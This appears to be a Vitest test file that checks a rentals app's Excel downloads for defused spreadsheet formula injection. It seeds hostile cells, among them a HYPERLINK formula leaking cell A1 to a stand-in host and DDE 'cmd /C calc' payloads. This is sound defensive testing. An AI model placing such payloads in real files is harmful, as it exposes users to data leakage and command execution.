// Every Excel download, opened and read cell by cell: text users or the supplier typed
// that starts like a formula (=, +, -, @, tab, carriage return) reaches the sheet with a
// leading apostrophe, so neither a spreadsheet nor a CSV saved from it runs it
// (files/xlsx-writer.ts `asPlainText`). A download added later needs its hostile rows here.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRentalsTestContext } from '../testing/rental-fixtures.js';
import { readSheet } from '../testing/read-sheet.js';
import type { TTestContext } from '../testing/test-context.js';
import { CONTRACT_EXPORTS } from '../testing/whole-contract.js';

let t: TTestContext;
let anna: string;

const HOSTILE = {
  location: '=HYPERLINK("https://example.invalid/?"&A1,"Klik")',
  contact: '@SUM(1+1)*cmd|" /C calc"!A0',
  endUser: '-2+3+cmd|" /C calc"!A0',
  room: '+31 6 12345678',
  client: '=1+1',
  brand: '\tmerk',
  type: '\rtype',
  depotName: '=2+5',
};

/** A body of each download that lists the rows made hostile below. */
const DOWNLOADS: Record<string, object> = {
  '/customer/rentals/cases/excel': { tabType: 'active', filters: {} },
  '/customer/requests/overview/excel': { tabType: 'open' },
  '/customer/articles/overview/excel': { tabType: 'location', filters: {} },
  '/customer/depot/cases/excel': { tabType: 'pending' },
  // the management overviews' files: the rental overview holds contacts, end users, rooms
  // and locations (the others share the writer's one text path)
  '/customer/management/overviews/excel': { documentType: 'activerental' },
};

beforeAll(async () => {
  const context = await createRentalsTestContext();
  t = context.t;
  anna = context.tokens.anna;
  const org = "(SELECT id FROM organisations WHERE name = 'Zorggroep De Linde')";
  await t.db.query(`UPDATE locations SET name = $1 WHERE organisation_id = ${org}`, [
    HOSTILE.location,
  ]);
  await t.db.query(`UPDATE contacts SET name = $1 WHERE organisation_id = ${org}`, [
    HOSTILE.contact,
  ]);
  await t.db.query(
    `UPDATE rental_cases SET end_user = $1, room = $2, general_use = false WHERE organisation_id = ${org}`,
    [HOSTILE.endUser, HOSTILE.room],
  );
  await t.db.query(
    `UPDATE products SET client_name = $1, product_brand = $2, product_type = $3
     WHERE organisation_id = ${org}`,
    [HOSTILE.client, HOSTILE.brand, HOSTILE.type],
  );
  await t.db.query(`UPDATE depot_cases SET name = $1 WHERE organisation_id = ${org}`, [
    HOSTILE.depotName,
  ]);
});
afterAll(() => t.close());

const FORMULA_START = /^[=+\-@\t\r]/;

describe('formula injection in every Excel download', () => {
  it('knows every download of the contract', () => {
    const paths = CONTRACT_EXPORTS.map(({ path }) => path);
    expect(paths.filter((path) => !(path in DOWNLOADS))).toEqual([]);
  });

  it.each(Object.entries(DOWNLOADS))(
    '%s writes no text cell that starts like a formula',
    async (path, body) => {
      const answer = await t.app.inject({
        method: 'POST',
        url: `/Rest/Pwa${path}`,
        headers: { 'x-auth-token': anna },
        payload: body,
      });
      expect(answer.statusCode).toBe(200);
      const { rows } = await readSheet(answer.rawPayload);
      const texts = rows.flat().filter((cell): cell is string => typeof cell === 'string');
      expect(texts.filter((text) => FORMULA_START.test(text))).toEqual([]);
      // why: the hostile rows must be in the file, or the check above proves nothing.
      const defused = texts.filter((text) =>
        Object.values(HOSTILE).some((hostile) => text.includes(`'${hostile}`)),
      );
      expect(defused.length, `hostile cells in ${path}`).toBeGreaterThan(0);
    },
  );
});
